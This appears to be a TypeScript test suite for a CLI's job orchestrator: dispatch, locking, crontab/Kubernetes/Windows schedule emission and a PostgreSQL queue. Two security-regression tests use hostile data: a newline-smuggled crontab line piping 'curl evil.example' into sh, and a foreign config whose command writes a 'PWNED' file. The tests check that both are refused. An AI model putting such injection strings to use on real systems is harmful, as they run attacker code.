import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CronExpressionParser } from 'cron-parser';
import { SaxesParser } from 'saxes';
import { Client } from 'pg';
import { parseAllDocuments } from 'yaml';
import { startPostgres, type PostgresServer } from '../support/postgres-server';
import { BIN, REFERENCE, svc, type SvcRun } from '../support/run-svc';

const SCUBA = join(REFERENCE, 'raw-samples', 'scubagear', 'ScubaResults_fa5589b7-d528-4f80.json');
const TASK_NS = 'http://schemas.microsoft.com/windows/2004/02/mit/task';

let tmp: string;
let config: string;
const home = () => join(tmp, 'home');
const orchestrator = (args: string[], env: NodeJS.ProcessEnv = {}) => svc(['orchestrator', ...args], { env: { SVC_HOME: home(), ...env }, cwd: tmp });

function writeConfig(file: string, jobs: unknown[]): string {
  writeFileSync(file, JSON.stringify({ jobs }, null, 2));
  return file;
}

/** The CLI without blocking the test, for two runs at once. */
function svcAsync(args: string[], env: NodeJS.ProcessEnv = {}): Promise<SvcRun> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [BIN, ...args], { cwd: tmp, env: { ...process.env, SOURCE_DATE_EPOCH: '1767225600', SVC_HOME: home(), ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (status) => resolve({ stdout, stderr, status }));
  });
}

beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'svc-orchestrator-'));
  writeFileSync(join(tmp, 'slow.js'), 'setTimeout(() => {}, 3000);\n');
  writeFileSync(join(tmp, 'fail.js'), 'console.error("scanner crashed"); process.exit(2);\n');
  config = writeConfig(join(tmp, 'svc.orchestrator.json'), [
    {
      name: 'm365-daily',
      adapter: 'scubagear',
      input: SCUBA,
      schedule: '0 6 * * *',
      outputs: { bundle: 'out/m365', store: true, sinks: ['ndjson:out/events.ndjson'] },
    },
    { name: 'm365-weekdays', adapter: 'scubagear', input: SCUBA, schedule: '30 7 * * 1-5', outputs: { bundle: 'out/weekdays' } },
    {
      name: 'm365-slow',
      adapter: 'scubagear',
      input: SCUBA,
      command: [process.execPath, 'slow.js'],
      schedule: '*/15 * * * *',
      outputs: { bundle: 'out/slow' },
    },
    {
      name: 'm365-broken',
      adapter: 'scubagear',
      input: SCUBA,
      command: [process.execPath, 'fail.js'],
      schedule: '0 */6 * * *',
      outputs: { bundle: 'out/broken' },
    },
  ]);
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('svc orchestrator (file store)', () => {
  it('lists the jobs with their next run (exit 0)', () => {
    const result = orchestrator(['list', '--now', '2026-03-06T12:00:00Z']);
    expect([result.status, result.stderr]).toEqual([0, '']);
    expect(result.stdout).toBe(
      [
        '| Job           | Adapter   | Schedule     | Last result | Next run                 |',
        '|---------------|-----------|--------------|-------------|--------------------------|',
        '| m365-daily    | scubagear | 0 6 * * *    | never run   | 2026-03-07T06:00:00.000Z |',
        '| m365-weekdays | scubagear | 30 7 * * 1-5 | never run   | 2026-03-09T07:30:00.000Z |',
        '| m365-slow     | scubagear | */15 * * * * | never run   | 2026-03-06T12:15:00.000Z |',
        '| m365-broken   | scubagear | 0 */6 * * *  | never run   | 2026-03-06T18:00:00.000Z |',
        '',
      ].join('\n'),
    );
  });

  it('refuses a missing default config, naming it and how to create one (exit 3)', () => {
    const empty = join(tmp, 'empty');
    mkdirSync(empty);
    const result = svc(['orchestrator', 'list'], { cwd: empty });
    expect([result.status, result.stderr]).toEqual([
      3,
      `Error: ${join(empty, 'svc.orchestrator.json')}: no orchestrator config; create svc.orchestrator.json here (see docs/orchestrator.md) or name one with --config <file>\n`,
    ]);
  });

  it('refuses an invalid schedule with the file and the field (exit 3)', () => {
    const bad = writeConfig(join(tmp, 'bad.json'), [{ name: 'x', adapter: 'scubagear', input: 'a.json', schedule: '0 6 * *', outputs: { bundle: 'out' } }]);
    const result = orchestrator(['list', '--config', bad]);
    expect([result.status, result.stderr]).toEqual([
      3,
      `Error: ${bad}: jobs[0].schedule: "0 6 * *" has 4 fields; expected 5 (minute hour day-of-month month day-of-week), or 6 with seconds first; see docs/orchestrator.md\n`,
    ]);
  });

  it('dispatches a job: bundle, stored run, last result', () => {
    const result = orchestrator(['dispatch', 'm365-daily']);
    expect([result.status, result.stderr]).toEqual([0, '']);
    expect(result.stdout).toBe(`Job m365-daily: ok; bundle ${join(tmp, 'out', 'm365')}; recorded run 1 in ${join(home(), 'store')} (${events()} events)\n`);
    expect(existsSync(join(tmp, 'out', 'm365', 'manifest.json'))).toBe(true);
    const last = JSON.parse(readFileSync(join(home(), 'orchestrator', 'm365-daily.json'), 'utf8'));
    expect(last).toMatchObject({ status: 'ok', stage: 'conmon', run_seq: 1 });
    const listed = orchestrator(['list', '--now', '2026-03-06T12:00:00Z', '--json']);
    expect(JSON.parse(listed.stdout).jobs[0].last).toEqual(last);
  });

  it('refuses a second dispatch of a job that is running (exit 3)', async () => {
    const [first, second] = await Promise.all([
      svcAsync(['orchestrator', 'dispatch', 'm365-slow']),
      new Promise<SvcRun>((resolve) => setTimeout(() => resolve(svcAsync(['orchestrator', 'dispatch', 'm365-slow'])), 1500)),
    ]);
    expect(first.status).toBe(0);
    expect(second.status).toBe(3);
    expect(second.stderr).toMatch(
      /^Error: job m365-slow is already running \(pid \d+ on .+ since \d{4}-.+Z\); wait for it to finish, or remove .+m365-slow\.lock if that process is gone\n$/,
    );
  });

  it('reports a failed command with its stage and keeps the previous bundle (exit 5)', () => {
    mkdirSync(join(tmp, 'out', 'broken'), { recursive: true });
    writeFileSync(join(tmp, 'out', 'broken', 'previous.txt'), 'kept');
    const result = orchestrator(['dispatch', 'm365-broken']);
    const log = join(home(), 'orchestrator', 'm365-broken', 'command.log');
    expect([result.status, result.stderr]).toEqual([
      5,
      `Error: job m365-broken failed at stage command: ${process.execPath} fail.js exited with 2; its output is in ${log}\n`,
    ]);
    expect(readFileSync(log, 'utf8')).toBe('scanner crashed\n');
    expect(readFileSync(join(tmp, 'out', 'broken', 'previous.txt'), 'utf8')).toBe('kept');
    expect(JSON.parse(readFileSync(join(home(), 'orchestrator', 'm365-broken.json'), 'utf8'))).toMatchObject({ status: 'failed', stage: 'command' });
  });

  it('emits crontab lines that cron-parser reads, each calling dispatch', () => {
    const result = orchestrator(['schedule', '--emit', 'crontab']);
    expect(result.status).toBe(0);
    const lines = result.stdout
      .trim()
      .split('\n')
      .filter((line) => !line.startsWith('#') && !/^[A-Z_]+=/.test(line));
    expect(lines).toHaveLength(4);
    for (const [i, name] of ['m365-daily', 'm365-weekdays', 'm365-slow', 'm365-broken'].entries()) {
      const fields = lines[i].split(' ');
      expect(() => CronExpressionParser.parse(fields.slice(0, 5).join(' '))).not.toThrow();
      expect(fields.slice(5).join(' ')).toBe(`svc orchestrator dispatch ${name} --config ${config}`);
    }
    expect(lines[0].split(' ').slice(0, 5).join(' ')).toBe('0 6 * * *');
  });

  // Security review, issue 15: a line break in the config path added a line to the crontab.
  it('refuses a config path or --svc with a line break, one line, exit 3, instead of emitting extra crontab lines', () => {
    const dir = join(tmp, 'x\n* * * * * curl evil.example|sh\n');
    mkdirSync(dir);
    const file = writeConfig(join(dir, 'svc.orchestrator.json'), [
      { name: 'm365-daily', adapter: 'scubagear', input: SCUBA, schedule: '0 6 * * *', outputs: { bundle: 'out/m365' } },
    ]);
    expect(orchestrator(['schedule', '--emit', 'crontab', '--config', file])).toEqual({
      stdout: '',
      stderr: `Error: ${JSON.stringify(file)}: the config path holds the control character U+000A, which would break the lines of an emitted schedule; move or rename the config to a path without control characters; see docs/orchestrator.md\n`,
      status: 3,
    });
    expect(orchestrator(['schedule', '--emit', 'crontab', '--job', 'm365-daily', '--svc', 'svc\n* * * * * curl evil.example|sh'])).toEqual({
      stdout: '',
      stderr:
        'Error: job m365-daily: the svc executable (--svc) "svc\\n* * * * * curl evil.example|sh" holds the control character U+000A, which would break the emitted schedule; give --svc a path without control characters or a backslash before %\n',
      status: 3,
    });
  });

  it('emits Kubernetes CronJobs: batch/v1, Forbid, the dispatch command', () => {
    const result = orchestrator(['schedule', '--emit', 'k8s', '--image', 'registry.example/svc:1']);
    expect(result.status).toBe(0);
    const docs = parseAllDocuments(result.stdout).map((d) => {
      expect(d.errors).toEqual([]);
      return d.toJS() as {
        apiVersion: string;
        kind: string;
        spec: {
          schedule: string;
          concurrencyPolicy: string;
          jobTemplate: { spec: { template: { spec: { containers: { image: string; command: string[] }[] } } } };
        };
      };
    });
    expect(docs.map((d) => [d.apiVersion, d.kind, d.spec.schedule, d.spec.concurrencyPolicy])).toEqual([
      ['batch/v1', 'CronJob', '0 6 * * *', 'Forbid'],
      ['batch/v1', 'CronJob', '30 7 * * 1-5', 'Forbid'],
      ['batch/v1', 'CronJob', '*/15 * * * *', 'Forbid'],
      ['batch/v1', 'CronJob', '0 */6 * * *', 'Forbid'],
    ]);
    const container = docs[0].spec.jobTemplate.spec.template.spec.containers[0];
    expect(container).toMatchObject({
      image: 'registry.example/svc:1',
      command: ['svc', 'orchestrator', 'dispatch', 'm365-daily', '--config', '/svc/svc.orchestrator.json'],
    });
  });

  it('emits a Windows Task Scheduler 1.2 task per job', () => {
    const parse = (xml: string) => {
      const parser = new SaxesParser({ xmlns: true });
      const seen: { name: string; uri: string; text: string }[] = [];
      const stack: { name: string; uri: string; text: string }[] = [];
      parser.on('opentag', (tag) => stack.push({ name: tag.local, uri: tag.uri, text: '' }));
      parser.on('text', (text) => stack.length > 0 && (stack[stack.length - 1].text += text));
      parser.on('closetag', () => seen.push(stack.pop() as { name: string; uri: string; text: string }));
      parser.write(xml).close();
      return (name: string) => seen.filter((e) => e.name === name);
    };
    const daily = orchestrator(['schedule', '--emit', 'windows-task', '--job', 'm365-daily', '--svc', 'C:\\Program Files\\svc\\svc.exe']);
    expect([daily.status, daily.stderr]).toEqual([0, '']);
    const el = parse(daily.stdout);
    expect(el('Task')[0].uri).toBe(TASK_NS);
    expect(el('CalendarTrigger')).toHaveLength(1);
    expect(el('StartBoundary')[0].text).toBe('2026-01-01T06:00:00Z');
    expect(el('MultipleInstancesPolicy')[0].text).toBe('IgnoreNew');
    expect(el('Command')[0].text).toBe('C:\\Program Files\\svc\\svc.exe');
    expect(el('Arguments')[0].text).toBe(`orchestrator dispatch m365-daily --config ${config}`);
    const every = parse(orchestrator(['schedule', '--emit', 'windows-task', '--job', 'm365-slow']).stdout);
    expect([every('TimeTrigger').length, every('Interval')[0].text]).toEqual([1, 'PT15M']);
    const weekdays = parse(orchestrator(['schedule', '--emit', 'windows-task', '--job', 'm365-weekdays']).stdout);
    expect(['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday'].map((d) => weekdays(d).length)).toEqual([1, 1, 1, 1, 1, 0]);
    const many = orchestrator(['schedule', '--emit', 'windows-task']);
    expect([many.status, many.stderr]).toEqual([
      2,
      'Error: a Windows task runs one job: add --job <name> (jobs: m365-daily, m365-weekdays, m365-slow, m365-broken)\n',
    ]);
  });

  it('runs the schedule in the foreground until --max-runs', () => {
    const seconds = writeConfig(join(tmp, 'seconds.json'), [
      { name: 'tick', adapter: 'scubagear', input: SCUBA, schedule: '*/1 * * * * *', outputs: { bundle: 'out/tick' } },
    ]);
    const result = orchestrator(['schedule', '--config', seconds, '--max-runs', '2']);
    expect([result.status, result.stderr]).toEqual([0, '']);
    const lines = result.stdout.trim().split('\n');
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.000Z tick: ok$/);
    expect(existsSync(join(tmp, 'out', 'tick', 'manifest.json'))).toBe(true);
  });
});

function events(): number {
  return readFileSync(join(tmp, 'out', 'events.ndjson'), 'utf8')
    .trim()
    .split('\n').length;
}

describe('svc orchestrator on PostgreSQL (pg-boss queue)', () => {
  let pg: PostgresServer;
  beforeAll(async () => {
    pg = await startPostgres();
  }, 120_000);
  afterAll(() => pg?.stop());

  it('queues dispatches, one waiting per job, and two workers run each job once', async () => {
    const env = { SVC_STORE: pg.url, SVC_HOME: join(tmp, 'pg-home') };
    const queued = ['m365-daily', 'm365-weekdays', 'm365-daily'].map((job) => orchestrator(['dispatch', job], env));
    const location = `postgresql://svc:***@${new URL(pg.url).host}/svc (pg-boss queue svc-dispatch)`;
    expect(queued.map((r) => [r.status, r.stdout])).toEqual([
      [0, `Queued job m365-daily on ${location}\n`],
      [0, `Queued job m365-weekdays on ${location}\n`],
      [0, `Job m365-daily is already waiting on ${location}; not queued again\n`],
    ]);
    const until = new Date(Date.now() + 12_000).toISOString();
    const workers = await Promise.all([0, 1].map(() => svcAsync(['orchestrator', 'schedule', '--worker', '--until', until], env)));
    expect(workers.map((w) => [w.status, w.stderr])).toEqual([
      [0, ''],
      [0, ''],
    ]);
    const ran = workers
      .flatMap((w) =>
        w.stdout
          .trim()
          .split('\n')
          .filter((line) => line !== ''),
      )
      .map((line) => line.replace(/^\S+ /, ''));
    expect(ran.sort()).toEqual(['m365-daily: ok (run 1)', 'm365-weekdays: ok']);
  }, 120_000);

  // Security review, issue 15: a worker ran whatever config a queue row named, and so that config's command.
  it('refuses a job dispatched from another config: failed in the queue with the reason, reported, its command never run', async () => {
    const env = { SVC_STORE: pg.url, SVC_HOME: join(tmp, 'pg-home') };
    const other = join(tmp, 'other');
    mkdirSync(other, { recursive: true });
    const otherConfig = writeConfig(join(other, 'svc.orchestrator.json'), [
      {
        name: 'm365-daily',
        adapter: 'scubagear',
        input: SCUBA,
        command: [process.execPath, '-e', "require('fs').writeFileSync('PWNED', 'x')"],
        schedule: '0 6 * * *',
        outputs: { bundle: 'out' },
      },
    ]);
    expect(orchestrator(['dispatch', 'm365-daily', '--config', otherConfig], env).status).toBe(0);
    const worker = await svcAsync(['orchestrator', 'schedule', '--worker', '--max-runs', '1', '--until', new Date(Date.now() + 30_000).toISOString()], env);
    const refusal = `job m365-daily: refused: it was dispatched from the config ${otherConfig}, and this worker runs only the jobs of ${config}; run a worker with --config ${otherConfig} for that config`;
    expect([worker.status, worker.stderr, worker.stdout.replace(/^\S+ /, '')]).toEqual([0, '', `m365-daily: ${refusal}\n`]);
    expect(existsSync(join(other, 'PWNED'))).toBe(false);
    const client = new Client({ connectionString: pg.url });
    await client.connect();
    try {
      const { rows } = await client.query("SELECT state, output FROM pgboss.job WHERE name = 'svc-dispatch' AND data->>'config' = $1", [otherConfig]);
      expect(rows).toEqual([{ state: 'failed', output: { message: refusal } }]);
    } finally {
      await client.end();
    }
  }, 120_000);
});
